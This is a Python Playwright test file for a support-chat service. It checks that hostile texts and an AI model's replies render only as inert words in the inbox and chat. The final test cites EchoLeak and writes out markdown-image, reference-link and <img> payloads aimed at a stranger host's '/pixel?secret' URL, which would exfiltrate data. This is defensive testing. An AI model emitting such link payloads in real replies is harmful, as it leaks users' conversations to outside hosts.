"""Whatever customers, documents, models, files and colleagues are called or say, it stays words: no element, no attribute, no request, no dialog comes of it."""

import concurrent.futures
import re

import pytest
from playwright.sync_api import expect

from payloads import PAYLOADS
from people import People
from screens import Chat, Inbox
from service import SITE, Refused, Service

HARMLESS = "Nothing but words"

# A link that was made of an address in words: it leads where its words say, and tells the place nothing.
HONEST = """(element => element.matches(".words > a[href]") && element.textContent === element.getAttribute("href")
    && element.textContent.toLowerCase().startsWith(`${element.protocol}//${element.host}`) && ["http:", "https:"].includes(element.protocol)
    && element.rel === "noopener noreferrer nofollow ugc" && element.referrerPolicy === "no-referrer"
    && element.getAttributeNames().join() === "href,dir,target,rel,referrerpolicy" && element.childElementCount === 0)"""
# What stands on a page, without its words and honest links in them: each element with the names of its attributes.
SHAPES = """root => [...new Set([...document.querySelectorAll(root + ", " + root + " *")].filter(one => !HONEST(one)).map(element =>
    element.tagName + " " + element.getAttributeNames().filter(name => name !== "open" && name !== "title").sort().join(" ")))].sort()""".replace("HONEST", HONEST)
# Elements where there are only words.
IN_WORDS = f"() => [...document.querySelectorAll('.words *, bdi *, blockquote :not(mark), textarea *, summary bdi *')].filter(one => !{HONEST}(one)).map(element => element.outerHTML)"


class HostileWorld:
    """One conversation for each text, which stands everywhere in it; and two for harmless words, to compare with. The answers to every other one are held
    back, so that the inbox shows them as drafts and the chat does not show them."""

    def __init__(self, service, payloads):
        self.service = service
        texts = [HARMLESS, HARMLESS, *payloads]
        for number, text in enumerate(texts):
            title = " ".join(text.split())[:200]
            service.api("PUT", f"/v1/collections/help/documents/hostile-{number}.md",
                        {"title": title, "text": f"A zebra{number}ish ticket costs 5 EUR. {text}\n"})
        with service.model.says(answer=self._answer, needs_human=self._is_held_back), concurrent.futures.ThreadPoolExecutor(4) as pool:
            self.made = list(pool.map(self._make, range(len(texts)), texts))

    @staticmethod
    def _answer(question):
        return question.split("Say: ", 1)[-1]

    @staticmethod
    def _is_held_back(question):
        return int(re.search(r"zebra(\d+)", question)[1]) % 2 == 1

    def _make(self, number, text):
        """The conversation and its token; text stands in the name, message, reply, note, draft, tag, detail, file's name, document's title and text."""
        service, line = self.service, " ".join(text.split())
        name = line[:100]
        try:
            conversation, token = service.answered(f"What does a zebra{number}ish ticket cost? Say: {text}", name)
        except Refused:
            # A name that is no name is refused; the words are still tried.
            conversation, token = service.answered(f"What does a zebra{number}ish ticket cost? Say: {text}", "Ines")
        service.claim(conversation)
        service.attach(conversation, token, line[:100], b"nothing but words")
        service.note(conversation, text)
        service.reply(conversation, text)
        service.tag(conversation, line[:100])
        service.api("PATCH", f"/v1/conversations/{conversation}/details", {"details": {"order": line[:200]}})
        return conversation, token


@pytest.fixture(params=range(3), ids=lambda part: f"texts {part * 20 + 1}-{part * 20 + 20}")
def hostile(request, template, model):
    payloads = PAYLOADS[request.param * 20:request.param * 20 + 20]
    # Sure of everything, so that what the model says is said.
    with Service(template, model, settings=lambda text: text.replace("threshold: 0.80", "threshold: 0.01")) as service:
        yield HostileWorld(service, payloads), payloads


def test_a_hostile_text_is_words_wherever_it_is_shown(browser, hostile):
    world, payloads = hostile
    people = People(browser, world.service)
    harmless, others = world.made[:2], list(zip(world.made[2:], payloads))

    def look(page):
        """All shapes of a page; its words must hold none."""
        page.wait_for_load_state()
        assert page.evaluate(IN_WORDS) == []
        return set(page.evaluate(SHAPES, "html"))

    page = people.teammate(path="/inbox?queue=mine")
    expect(Inbox(page).rows).to_have_count(len(world.made))

    def case(conversation):
        page.goto(f"{world.service.origin}/inbox/{conversation}?queue=mine")
        return look(page)

    shapes = set().union(*(case(conversation) for conversation, _ in harmless))
    for (conversation, _), text in others:
        assert case(conversation) <= shapes, text
        assert first_words(text) in page.get_by_role("log").inner_text(), text

    page = people.customer_of(harmless[0])

    def chat(token):
        page.context.add_cookies([{"name": "baton-chat", "value": token, "url": world.service.origin}])
        page.goto(f"{world.service.origin}/chat/{SITE}")
        return look(page)

    shapes = set().union(*(chat(token) for _, token in harmless))
    said = 0
    for (_, token), text in others:
        assert chat(token) <= shapes, text
        said += Chat(page).answers.filter(has_text=first_words(text)).count()
    assert said >= len(others) / 3, "hardly any of the model's hostile answers reached a customer: this test says nothing"
    people.close()
    people.watch.check()


def first_words(text):
    return text.split("\n")[0].strip()


def test_a_hostile_search_or_filter_is_words(visitors, furnished):
    """What somebody is lured to click: the words stand in the address."""
    from urllib.parse import quote
    for path, who in [("/inbox?q=", "mara"), ("/usage?assistant=", "nuno"), ("/usage?conversation=", "nuno"), ("/sign-in?next=", None),
                      ("/inbox?queue=", "mara")]:
        context = visitors.signed_in(who) if who else visitors.context()
        page = context.new_page()
        page.goto(furnished.service.origin + path + quote("no such words at all"))
        shape = page.evaluate(SHAPES, "html")
        for text in PAYLOADS[::5]:
            page.goto(furnished.service.origin + path + quote(text, safe=""))
            assert page.evaluate(SHAPES, "html") == shape, (path, text)
        context.close()


def test_a_hostile_address_at_the_sign_in_is_words(visitors, furnished):
    visitors.expects("401", "422")
    page = visitors.page("/sign-in")

    def shape_after(words):
        page.get_by_label("E-mail").evaluate("(field, words) => { field.type = 'text'; field.value = words; }", words)
        page.get_by_label("Password", exact=True).fill("wrong")
        page.get_by_role("button", name="Sign in").click()
        expect(page.get_by_role("alert")).not_to_be_empty()
        page.wait_for_load_state()
        return page.evaluate(SHAPES, "html")

    harmless = shape_after("nobody@quayside.example")
    for text in (PAYLOADS[0], PAYLOADS[4], PAYLOADS[30]):
        assert shape_after(text) == harmless, text


def test_hostile_words_that_arrive_on_an_open_page_are_words(people, service):
    """The live way: what comes while the page is open is placed by the script."""
    conversation, token = service.answered("What does a withdrawal of bitcoin cost?", "Ines")
    inbox = Inbox(people.teammate(path=f"/inbox/{conversation}?queue=assistant"))
    chat = Chat(people.customer_of((conversation, token)))
    service.claim(conversation)
    tags = {}
    for text in [HARMLESS, *PAYLOADS[:12]]:
        service.say(conversation, token, f"{text} (from the customer)")
        service.reply(conversation, f"{text} (from a colleague)")
        for screen in (inbox, chat):
            expect(screen.entry(f"{text} (from a colleague)").last).to_be_visible()
            entry = screen.entry(f"{text} (from a colleague)").last
            census = entry.evaluate(f"element => [...element.querySelectorAll('*')].filter(one => !{HONEST}(one)).map(one => one.tagName).join()")
            assert census == tags.setdefault(screen, census), text


def test_a_link_in_a_models_reply_loads_nothing_and_leads_nowhere_by_itself(people, service, elsewhere):
    """EchoLeak (CVE-2025-32711): an answer that carries what was said out of the house, by a picture or a preview that nobody asked for."""
    url = f"{elsewhere.stranger}/pixel?secret"
    asked = len(elsewhere.asked)
    answers = [f"![x]({url})", f"[a][r]\n\n[r]: {url}", f"<img src={url}>", f"{url}&q={'x' * 200}", f"[your invoice]({url})"]
    for number, answer in enumerate(answers):
        with service.model.says(answer=answer):
            opened = service.answered(f"What does a withdrawal of bitcoin cost? {number}")
        service.claim(opened[0])
        service.reply(opened[0], answer)
        for page in (people.customer_of(opened), people.teammate(path=f"/inbox/{opened[0]}?queue=mine")):
            expect(page.get_by_role("log")).to_contain_text("pixel")
            page.wait_for_load_state()
            assert page.get_by_role("log").locator("img, iframe, object, embed, link, picture, video").count() == 0
            assert page.evaluate(IN_WORDS) == []
            assert page.get_by_role("log").locator("blockquote a").count() == 0
            page.context.close()
    assert elsewhere.asked[asked:] == [], "something fetched a link by itself"
